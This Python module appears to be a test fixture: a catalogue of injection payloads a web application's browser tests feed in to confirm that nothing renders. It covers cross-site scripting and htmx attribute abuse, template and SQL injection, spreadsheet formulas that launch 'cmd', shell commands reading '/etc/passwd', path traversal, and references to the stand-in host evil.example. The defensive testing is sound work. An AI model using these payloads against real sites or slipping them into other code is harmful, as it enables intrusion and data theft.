"""Texts that want to become something else: each with what it tries, none with a right to.

A payload that became markup is an element with the attribute ``hit``, calls ``hit()``, or asks for
an address with ``hit`` in it: the browser's tests look for the three. Each begins with its number
between two signs that no page of ours writes, so that what was shown can be counted.
"""

SIGN = "¤"

CONTEXTS = {
    "between two tags": "",
    "in an attribute with double quotes": '">',
    "in an attribute with single quotes": "'>",
    "in an attribute without quotes": " x>",
    "in a title": "</title>",
    "in a text area": "</textarea>",
    "in a script": "</script>",
    "in a style": "</style>",
    "in an option of a list": "</option></select>",
    "in a comment": "-->",
    "in a drawing": "</text></svg>",
    "behind an escape that is undone": "&quot;&gt;",
    "in a text for scripts": "\\\"'>",
    "in a template that is not shown": "</template></noscript>",
}
"""Where the text might stand, and what would leave that place."""

VECTORS = {
    "a script": "<script hit>hit()</script>",
    "a script from elsewhere": "<script hit src=//evil.example/hit.js></script>",
    "a script of our own origin": "<script hit src=/hit.js></script>",
    "a picture that fails": "<img hit src=/hit onerror=hit()>",
    "a drawing that loads": "<svg hit onload=hit()>",
    "a field that takes the focus": "<input hit autofocus onfocus=hit()>",
    "a detail that opens": "<details hit open ontoggle=hit()>",
    "htmx: a request at once": '<b hit hx-get="/hit" hx-trigger="load">',
    "htmx: a write at once": '<b hit hx-post="/logout" hx-trigger="load">',
    "htmx: the other spelling": '<b hit data-hx-post="/hit" data-hx-trigger="load">',
    "htmx: code on an event": '<b hit hx-on:htmx:load="hit()" hx-on::load="hit()">',
    "htmx: code on an event, the other spelling": '<b hit data-hx-on:click="hit()">',
    "htmx: values that are code": "<b hit hx-get=/hit hx-trigger=load hx-vals='js:{a:hit()}'>",
    "htmx: a page that is swapped in": '<b hit hx-get="/hit" hx-trigger="every 1ms">',
    "a style": "<style hit>*{background:url(/hit)}</style>",
    "a style on an element": '<b hit style="background:url(/hit)">',
    "a link to a style": "<link hit rel=stylesheet href=/hit.css>",
    "a page in the page": "<iframe hit src=/hit></iframe>",
    "another base for links": "<base hit href=//evil.example/hit/>",
    "another page after a while": '<meta hit http-equiv=refresh content="0;url=/hit">',
    "an object": "<object hit data=/hit></object>",
    "a form of theirs": "<form hit action=/hit><button autofocus>",
}
"""What would run, ask or show, once there."""

OTHERS = {
    "an attribute more, double quotes": '" onmouseover="hit()" autofocus onfocus="hit()" hit="',
    "an attribute more, single quotes": "' onfocus='hit()' autofocus hit='",
    "an attribute more, no quotes": "x onfocus=hit() autofocus hit",
    "an attribute more, with a new line": '"\nonfocus=hit()\nautofocus\nhit="',
    "an attribute more, with a slash": '"/onfocus=hit()/autofocus/hit="',
    "an attribute of htmx more": '" hx-get="/hit" hx-trigger="load" hit="',
    "an attribute of htmx more, the other spelling": '" data-hx-get="/hit" data-hx-trigger="load"',
    "a target of htmx more": "' hx-target='body' hx-swap='outerHTML' hx-get='/hit' hit='",
    "a confirmation that is code": "js:hit()",
    "a confirmation that is code, spelled otherwise": "javascript:hit()",
    "values for htmx": "js:{hit: hit()}",
    "a link that is code": "javascript:hit()//",
    "a link that is code, in capitals": "JaVaScRiPt:hit()",
    "a link that is code, with a tab": "java\tscript:hit()",
    "a link that is code, with a line": "java\nscript:hit()",
    "a link that is code, with an entity": "javascript&colon;hit()",
    "a link that is code, encoded": "javascript:%68%69%74%28%29",
    "a link that is a page": "data:text/html,<script>hit()</script>",
    "a link that is a page, encoded": "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "a link that is an old script": "vbscript:hit()",
    "a file's address": "file:///etc/passwd#hit",
    "a tag that is not closed": "<img hit src=/hit onerror=hit() ",
    "a tag that is closed twice": "<<img hit src=/hit onerror=hit()>>",
    "a tag in capitals": "<IMG HIT SRC=/hit ONERROR=hit()>",
    "a tag with a slash": "<img/hit/src=/hit/onerror=hit()>",
    "a tag with a line": "<img\nhit\nsrc=/hit\nonerror=hit()>",
    "a tag with a form feed's look": "<img\u00a0hit src=/hit onerror=hit()>",
    "a tag that a filter would rebuild": "<scr<script hit>ipt hit>hit()</scr</script>ipt>",
    "a tag in wide letters": "\uff1cimg hit src=/hit onerror=hit()\uff1e",
    "a tag in entities": "&lt;img hit src=/hit onerror=hit()&gt;",
    "a tag in entities twice": "&amp;lt;img hit src=/hit onerror=hit()&amp;gt;",
    "a tag in numbers": "&#60;img hit src=/hit onerror=hit()&#62;",
    "a tag in numbers of sixteen": "&#x3c;img hit src=/hit onerror=hit()&#x3e;",
    "a tag in numbers without an end": "&#0000060img hit src=/hit onerror=hit()&#0000062",
    "a tag in escapes of scripts": "\\u003cimg hit src=/hit onerror=hit()\\u003e",
    "a tag in escapes of an address": "%3Cimg%20hit%20src=/hit%20onerror=hit()%3E",
    "a tag in an old encoding": "+ADw-img hit src=/hit onerror=hit()+AD4-",
    "a script in a drawing": "<svg><script hit>hit()</script></svg>",
    "a script in a drawing, by reference": "<svg hit><script href=/hit.js></script></svg>",
    "a link in a drawing": "<svg hit><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "a drawing used": "<svg hit><use href=/hit#x></use></svg>",
    "a drawing that moves": "<svg hit><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "a drawing that sets a link": "<svg hit><set attributeName=href to=javascript:hit()></svg>",
    "a page in a drawing": "<svg hit><foreignObject><img src=/hit></foreignObject></svg>",
    "mathematics with a link": "<math hit href=javascript:hit()>x</math>",
    "mathematics that change shape": (
        "<math><mtext><table><mglyph><style><!--</style><img hit src=/hit onerror=hit()>"
    ),
    "a text that changes shape when read again": (
        "<noscript><p title='</noscript><img hit src=/hit onerror=hit()>'>"
    ),
    "a form in a form": "<form><math><mtext></form><form hit><mglyph><svg><mtext><style>",
    "a list that changes shape": "<select><template hit><img src=/hit onerror=hit()></template>",
    "a shadow": "<div><template hit shadowrootmode=open><slot></slot></template></div>",
    "a table": "<table hit background=/hit><td background=/hit>",
    "a film": "<video hit src=/hit onerror=hit() poster=/hit></video>",
    "a sound": "<audio hit src=/hit onerror=hit()></audio>",
    "a picture of several sizes": "<img hit srcset=/hit 1x>",
    "a picture in a field": "<input hit type=image src=/hit>",
    "a button that sends elsewhere": "<button hit formaction=//evil.example/hit autofocus>",
    "a button that sends another form": "<button hit form=files_form formaction=/hit>",
    "a frame written in place": "<iframe hit srcdoc='<script>parent.hit()</script>'></iframe>",
    "an embedded thing": "<embed hit src=/hit>",
    "a manifest": "<link hit rel=manifest href=/hit.json>",
    "a page fetched before": "<link hit rel=prefetch href=/hit><link hit rel=preload href=/hit>",
    "an icon": "<link hit rel=icon href=/hit>",
    "a policy of theirs": "<meta hit http-equiv=Content-Security-Policy content=\"script-src *\">",
    "a cookie": "<meta hit http-equiv=Set-Cookie content=hit=1>",
    "settings of htmx": "<meta hit name=htmx-config content='{\"prefix\":\"hit-\"}'>",
    "a region of htmx": "<hx-partial hit hx-target=body><b>hit</b></hx-partial>",
    "a swap out of band": "<b hit id=main hx-swap-oob=outerHTML>",
    "a name that scripts look for": "<a hit id=draft_form name=htmx>",
    "an attribute of our scripts": '<b hit data-kept="x" data-kept-drop data-version="9">',
    "marks of a thing": '<b hit data-kind="idea" data-id="x" data-version="1">',
    "an animation": "<b hit style='animation:x' onanimationstart=hit()>",
    "a style that imports": "<style hit>@import '/hit.css';</style>",
    "a style that reads a field": "<style hit>input[value^=a]{background:url(/hit)}</style>",
    "a style in a style": "}*{background:url(/hit)}",
    "an expression of an old browser": "<b hit style='width:expression(hit())'>",
    "a comment of an old browser": "<!--[if gte IE 4]><script hit>hit()</script><![endif]-->",
    "a comment that opens": "<!--",
    "a section of characters": "<![CDATA[<script hit>hit()</script>]]>",
    "a declaration": "<!DOCTYPE html [<!ENTITY hit SYSTEM '/hit'>]>",
    "an instruction": "<?xml-stylesheet hit href='/hit.css'?>",
    "a template of ours": "{{ 7 * 7 }}{% for x in hit %}{% endfor %}",
    "a template of ours that looks inside": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a template that asks for the settings": "{{ config.items() }}{{ self._TemplateReference }}",
    "a block of a template": "{% block main %}hit{% endblock %}{% include '/etc/passwd' %}",
    "a comment of a template": "{# hit #}",
    "a place for a value, in words": "%(name)s %(title)s %(who)s",
    "a place for a value, in letters": "%s %d %n %x",
    "a place for a value, in braces": "{0} {name} {0.__class__} {}",
    "a template of scripts": "${hit()} `${hit()}`",
    "an end of data for scripts": "\"}]</script><script hit>hit()</script>",
    "a name that scripts inherit": '{"__proto__": {"hit": 1}}',
    "a new line for scripts": "\u2028hit()\u2029",
    "letters turned around": "\u202ehit<\u202c >tih\u2066\u2069",
    "letters that are not seen": "<\u200bimg hit src=/hit onerror=hit()>\ufeff",
    "a letter that grows": "\ufdfa<img hit src=/hit onerror=hit()>",
    "a letter that folds into a sign": "\u212aimg \ufe64img hit src=/hit onerror=hit()\ufe65",
    "marks piled up": "hit" + "\u0301" * 40,
    "a table's formula": "=HYPERLINK(\"//evil.example/hit\",\"hit\")",
    "a table's formula after a space": " =1+1",
    "a table's formula by a sign": "+1+cmd|' /C calc'!A0",
    "a table's formula by another": "-2+3+cmd|' /C calc'!A0",
    "a table's formula by an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a table's formula after a quote": "'=1+1",
    "a table's next cell": '";=1+1;"',
    "typst: a file": '#read("/etc/passwd")',
    "typst: a package": '#import "@preview/cetz:0.3.0": *',
    "typst: a file of ours": '#include "report.typ"',
    "typst: raw": "#raw(read(\"report.typ\")) `raw` ```hit```",
    "typst: code": "#eval(\"1+1\") #panic(\"hit\") #{while true {}}",
    "typst: mathematics and marks": "$x^2$ *gras* _it_ @cite <hit> \\ // /* = Titre",
    "typst: a link": '#link("javascript:hit()")[hit]',
    "Markdown: a link": "[hit](javascript:hit())",
    "Markdown: a picture": "![hit](/hit \"onerror=hit()\")",
    "Markdown: a link by itself": "<javascript:hit()> <//evil.example/hit>",
    "a link that is made of a text, double quotes": 'https://evil.example/"onmouseover="hit()"hit="',
    "a link that is made of a text, single quotes": "https://evil.example/'onmouseover='hit()'hit",
    "a link that is made of a text, a tag": "www.evil.example/<img hit src=/hit onerror=hit()>",
    "a link that is made of a text, code": "javascript://evil.example/%0ahit()",
    "a link that is made of an address": "mailto:a@evil.example?subject=<img hit>",
    "a header more": "hit\nSet-Cookie: hit=1\nX-Hit: 1",
    "a log line more": "hit\n2026-01-01 [info] forged user=admin",
    "a statement": "'; DROP TABLE idea; -- hit",
    "a statement that looks further": "' OR '1'='1' UNION SELECT hit FROM person --",
    "a pattern of a search": "%_\\%\\_*?[a-z]hit",
    "a pattern without end": "(a+)+$hit" + "a" * 30 + "!",
    "a command": "$(touch /tmp/hit) `id` | cat /etc/passwd; hit",
    "a path": "../../../../etc/passwd%00hit",
    "an address of ours": "/logout?hit",
}  # fmt: skip

_ALL = [
    *(
        (f"{what}, {where}", leave + vector)
        for where, leave in CONTEXTS.items()
        for what, vector in VECTORS.items()
    ),
    *OTHERS.items(),
]
PAYLOADS: list[tuple[str, str]] = [
    (comment, f"{SIGN}{number}{SIGN}{text}") for number, (comment, text) in enumerate(_ALL)
]
"""Each with what it tries."""


def windows(limit: int) -> list[str]:
    """All the payloads, in texts of at most so many characters; those too long alone are left."""
    texts, text = [], ""
    for _, payload in PAYLOADS:
        if len(text) + 1 + len(payload) > limit and text:
            texts.append(text)
            text = ""
        if len(payload) <= limit:
            text = f"{text} {payload}" if text else payload
    return [*texts, text]
